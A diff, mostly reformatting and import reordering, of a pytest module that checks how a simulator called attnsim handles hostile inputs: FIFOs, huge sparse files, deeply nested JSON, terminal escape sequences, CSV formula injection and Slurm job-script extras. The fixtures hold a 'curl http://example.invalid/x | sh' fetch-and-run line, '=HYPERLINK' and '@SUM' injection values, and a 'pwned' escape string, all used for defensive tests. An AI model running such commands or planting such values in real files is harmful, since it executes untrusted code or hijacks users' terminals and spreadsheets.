@@ -3,6 +3,7 @@ terminal, a spreadsheet or a cluster (issue 31): attnsim.core.fileio's size limi
 and cache entries, terminal_text / csv_cell on output, --emit-sbatch without partial folders, slurm.extra listed,
 --point-fn an explicit plugin, --front-points bounded. Hostile files (FIFOs, symlinks, sparse files) live in
 tmp_path; no test writes a large file (sparse files take no disk space)."""
+
 import csv
 import json
 import os
@@ -13,15 +14,14 @@ import warnings
 import numpy as np
 import pytest
 import yaml
+from sweep_helpers import write_sweep
 
-from attnsim.core import fileio
 from attnsim.cli import main
+from attnsim.core import cache, fileio
 from attnsim.core.config import ConfigError, load_yaml
 from attnsim.core.fileio import INPUT_LIMITS, InputRefused, open_regular, read_regular
 from attnsim.core.outputs import csv_cell, terminal_text
-from attnsim.core import cache
 from attnsim.studies.sweep.store import StoreWriter, make_record
-from sweep_helpers import write_sweep
 
 GIB = 1 << 30
 
@@ -29,8 +29,10 @@ GIB = 1 << 30
 @pytest.fixture
 def hang_guard():
     """Fail instead of hanging: an open() that blocks on a FIFO is interrupted after 20 s."""
+
     def boom(signum, frame):
         raise TimeoutError("blocked (a FIFO open or an endless read)")
+
     old = signal.signal(signal.SIGALRM, boom)
     signal.alarm(20)
     yield
@@ -54,6 +56,7 @@ def _one_line(capsys, rc, *want):
 
 
 # ---------------------------------------------------------------- attnsim.core.fileio
+
 
 def test_a_fifo_is_refused_without_blocking(tmp_path, hang_guard):
     p = tmp_path / "fifo"
@@ -83,8 +86,9 @@ def test_size_is_checked_before_a_byte_is_read(tmp_path, monkeypatch):
     with pytest.raises(InputRefused) as e:
         read_regular(p)
     # 16 MiB = INPUT_LIMITS["document"] = 16777216 B; the file is 2 * 2^30 = 2147483648 B
-    assert str(e.value) == ("file of 2147483648 B: larger than the 16777216 B limit "
-                            "(set ATTNSIM_MAX_DOCUMENT_MB=<MiB> to raise it)")
+    assert str(e.value) == (
+        "file of 2147483648 B: larger than the 16777216 B limit (set ATTNSIM_MAX_DOCUMENT_MB=<MiB> to raise it)"
+    )
     assert reads == []
 
 
@@ -111,16 +115,20 @@ def test_a_file_that_grows_past_the_limit_while_read_is_refused(tmp_path):
         read_regular(p, limit_bytes=50)
 
 
-@pytest.mark.parametrize("argv,name", [
-    (["run", "exp.yaml", "--no-write"], "exp.yaml"),         # experiment YAML
-    (["sweep", "sweep.yaml", "--no-progress"], "sweep.yaml"),  # sweep file
-    (["run", "hf_exp.yaml", "--no-write"], "config.json"),   # HF config.json named by an experiment
-])
+@pytest.mark.parametrize(
+    "argv,name",
+    [
+        (["run", "exp.yaml", "--no-write"], "exp.yaml"),  # experiment YAML
+        (["sweep", "sweep.yaml", "--no-progress"], "sweep.yaml"),  # sweep file
+        (["run", "hf_exp.yaml", "--no-write"], "config.json"),  # HF config.json named by an experiment
+    ],
+)
 def test_2_gib_inputs_are_refused_in_one_line_before_reading(tmp_path, capsys, argv, name, monkeypatch):
     from sweep_helpers import TINY_EXPERIMENT
+
     monkeypatch.chdir(tmp_path)
     (tmp_path / "hf_exp.yaml").write_text(yaml.safe_dump({**TINY_EXPERIMENT, "models": ["config.json"]}))
-    p = _sparse(tmp_path / name, 2 * GIB)
+    _sparse(tmp_path / name, 2 * GIB)
     t0 = time.monotonic()
     rc = main(argv)
     line = _one_line(capsys, rc, "larger than the 16777216 B limit")
@@ -130,6 +138,7 @@ def test_2_gib_inputs_are_refused_in_one_line_before_reading(tmp_path, capsys, a
 def test_an_error_quoting_a_huge_input_is_cut(tmp_path):
     """bench/fuzz.py found a 5 MB --set item quoted whole (then escaped, > 10 s on a busy machine)."""
     from attnsim.core.config import MAX_MESSAGE_CHARS, parse_set
+
     item = "\udced\udcb3\udcad" * 300_000  # 900,000 lone surrogates, each escaped as \udcXX (6 characters)
     t0 = time.monotonic()
     with pytest.raises(ConfigError) as e:
@@ -149,6 +158,7 @@ def test_a_set_key_with_an_undecodable_byte_is_one_error(capsys):
 
 def test_hf_config_nested_too_deeply_is_one_error(tmp_path):
     from attnsim.workloads.hf import model_from_hf_config
+
     p = tmp_path / "config.json"
     p.write_text("[" * 100_000 + "]" * 100_000)
     with pytest.raises(ConfigError, match="nested too deeply"):
@@ -157,8 +167,10 @@ def test_hf_config_nested_too_deeply_is_one_error(tmp_path):
 
 # ---------------------------------------------------------------- DRAM traces
 
+
 def test_a_huge_one_line_dram_trace_is_quoted_with_a_bounded_prefix(tmp_path):
     from attnsim.cli.dram import read_trace
+
     p = tmp_path / "t.trace"
     with open(p, "wb") as f:
         f.write(b"0x" + b"4" * 100)
@@ -171,6 +183,7 @@ def test_a_huge_one_line_dram_trace_is_quoted_with_a_bounded_prefix(tmp_path):
 
 def test_the_compiled_reader_quotes_a_bounded_prefix(tmp_path):
     from attnsim.hwmodels.dram.traces import _line_text
+
     b = np.frombuffer(b"0x0 R\n" + b"y" * 10_000_000 + b"\nz\n", np.uint8)
     assert _line_text(b, 1) == "0x0 R"
     assert _line_text(b, 2, chunk=4096) == "y" * 60 + "..."  # the line spans 2442 chunks
@@ -180,6 +193,7 @@ def test_the_compiled_reader_quotes_a_bounded_prefix(tmp_path):
 def test_a_npy_trace_with_a_broken_header_is_one_error(tmp_path):
     """Found by the dram_any fuzz harness: numpy tokenizes the .npy header, a cut one raised TokenError."""
     from attnsim.hwmodels.dram.traces import read_trace_any
+
     p = tmp_path / "t.npy"
     header = b"{'descr': [('addr', '<u8'), ('write', '|u1'), ('arrival', '<i8\x00)], 'fortran_order': False, "
     p.write_bytes(b"\x93NUMPY\x01\x00\xb6\x00" + header + b"'shape': (2,), }" + b" " * 74 + b"\n" + b"\x00" * 34)
@@ -196,11 +210,13 @@ def test_a_device_as_dram_trace_is_refused_unread(tmp_path, capsys, hang_guard):
 
 def test_a_dram_trace_over_the_limit_is_refused_unread(tmp_path, capsys):
     from attnsim.cli.dram import MAX_REQUESTS
+
     p = _sparse(tmp_path / "t.trace", 64 * MAX_REQUESTS + 1)  # 64 B x 2^25 requests + 1 = 2 GiB + 1
     _one_line(capsys, main(["dram", "--device", "hbm3_6400", "--trace", str(p)]), "2147483648 B")
 
 
 # ---------------------------------------------------------------- the sub-result cache
+
 
 def _entry(root, k):
     return root / k[:2] / f"{k}.json"
@@ -260,12 +276,16 @@ ESC = "\x1b]0;pwned\x07\x1b[2J"  # set the window title, clear the screen
 
 
 def _hostile_store(path):
-    doc = {"system": "sys" + ESC, "model": "m", "scenario": {"name": "c", "batch_size": 1}, "status": "ok",
-           "metrics": {"tpot_s": 0.001}}
+    doc = {
+        "system": "sys" + ESC,
+        "model": "m",
+        "scenario": {"name": "c", "batch_size": 1},
+        "status": "ok",
+        "metrics": {"tpot_s": 0.001},
+    }
     meta = {"sweep_id": "x", "experiment": "e" + ESC, "parameters": json.dumps(["label", "n", "note"])}
     with StoreWriter(path, meta, {"label": "str", "n": "i8", "note": "str"}) as w:
-        w.append(make_record(0, "k0", {"label": "=HYPERLINK(\"http://x\",\"y\")", "n": -3, "note": "a" + ESC}, doc,
-                             "{}"))
+        w.append(make_record(0, "k0", {"label": '=HYPERLINK("http://x","y")', "n": -3, "note": "a" + ESC}, doc, "{}"))
         w.append(make_record(1, "k1", {"label": "-2.5", "n": 4, "note": "b"}, dict(doc, system="@SUM(A1)"), "{}"))
     return path
 
@@ -298,7 +318,7 @@ def test_csv_export_quotes_formulas_and_leaves_numbers(tmp_path, capsys):
     out = tmp_path / "s.csv"
     assert main(["export", str(p), "--csv", "-o", str(out)]) == 0
     rows = list(csv.DictReader(out.open()))
-    assert rows[0]["label"] == "'=HYPERLINK(\"http://x\",\"y\")"  # OWASP CSV injection: a leading '
+    assert rows[0]["label"] == '\'=HYPERLINK("http://x","y")'  # OWASP CSV injection: a leading '
     assert rows[1]["label"] == "-2.5"  # a number stored as text is still a number
     assert rows[0]["n"] == "-3"  # numeric cells untouched
     assert rows[1]["system"] == "'@SUM(A1)"
@@ -308,6 +328,7 @@ def test_csv_export_quotes_formulas_and_leaves_numbers(tmp_path, capsys):
 
 
 # ---------------------------------------------------------------- job scripts
+
 
 def _slurm_sweep(tmp_path, **slurm):
     return write_sweep(tmp_path, [{"grid": {"scenario.batch_size": [1, 2]}}], slurm={"shards": 2, **slurm})
@@ -331,16 +352,31 @@ def test_slurm_extra_lines_are_listed_on_stderr_when_a_script_is_emitted(tmp_pat
         lines = err.splitlines()
         i = next(j for j, x in enumerate(lines) if "slurm.extra" in x)
         assert "3 slurm.extra line(s)" in lines[i] and "pasted into the job script" in lines[i]
-        assert lines[i + 1:i + 4] == ["  #SBATCH --qos=long", "  curl http://example.invalid/x | sh",
-                                      "  echo \\x1b[2J"]
+        assert lines[i + 1 : i + 4] == [
+            "  #SBATCH --qos=long",
+            "  curl http://example.invalid/x | sh",
+            "  echo \\x1b[2J",
+        ]
     script = (tmp_path / "job.sh").read_text()
     assert "curl http://example.invalid/x | sh" in script  # pasted as written, by design
-    assert main(["sweep", str(write_sweep(tmp_path / "plain", [{"grid": {"scenario.batch_size": [1]}}])),
-                 "--out", str(tmp_path / "p.h5"), "--emit-sbatch", "-"]) == 0
+    assert (
+        main(
+            [
+                "sweep",
+                str(write_sweep(tmp_path / "plain", [{"grid": {"scenario.batch_size": [1]}}])),
+                "--out",
+                str(tmp_path / "p.h5"),
+                "--emit-sbatch",
+                "-",
+            ]
+        )
+        == 0
+    )
     assert "slurm.extra" not in capsys.readouterr().err  # nothing to list
 
 
 # ---------------------------------------------------------------- --point-fn, --front-points
+
 
 def test_point_fn_is_a_documented_plugin_with_a_checked_name(tmp_path, capsys, monkeypatch):
     monkeypatch.chdir(tmp_path)
@@ -349,20 +385,41 @@ def test_point_fn_is_a_documented_plugin_with_a_checked_name(tmp_path, capsys, m
         main(["sweep", "--help"])
     assert "--point-fn MODULE:FUNCTION" in capsys.readouterr().out
     for bad in ("os.system", "os:system('x')", "a:b:c", ":f", "m:"):
-        _one_line(capsys, main(["sweep", str(p), "--point-fn", bad, "--no-progress"]), "--point-fn",
-                  "expected MODULE:FUNCTION")
-    _one_line(capsys, main(["sweep", str(p), "--point-fn", "test_sweep_trust:fake_point", "--emit-sbatch", "-"]),
-              "--point-fn", "no effect")
-    rc = main(["sweep", str(p), "--out", str(tmp_path / "s.h5"), "--workers", "1", "--no-progress",
-               "--point-fn", "test_sweep_trust:fake_point"])
+        _one_line(
+            capsys,
+            main(["sweep", str(p), "--point-fn", bad, "--no-progress"]),
+            "--point-fn",
+            "expected MODULE:FUNCTION",
+        )
+    _one_line(
+        capsys,
+        main(["sweep", str(p), "--point-fn", "test_sweep_trust:fake_point", "--emit-sbatch", "-"]),
+        "--point-fn",
+        "no effect",
+    )
+    rc = main(
+        [
+            "sweep",
+            str(p),
+            "--out",
+            str(tmp_path / "s.h5"),
+            "--workers",
+            "1",
+            "--no-progress",
+            "--point-fn",
+            "test_sweep_trust:fake_point",
+        ]
+    )
     assert rc == 0
     from attnsim.studies.sweep.store import open_store
+
     assert open_store(tmp_path / "s.h5").columns()["tpot_s"].tolist() == [1e-3]  # fake_point: 1e-3 x batch 1
 
 
 @pytest.mark.parametrize("n", ["1e9", "1001", "0"])
 def test_front_points_is_bounded(capsys, n):
     from attnsim.studies.plan import MAX_FRONT_POINTS
+
     assert MAX_FRONT_POINTS == 1000
     with pytest.raises(SystemExit) as e:
         main(["plan", "--front-points", n])
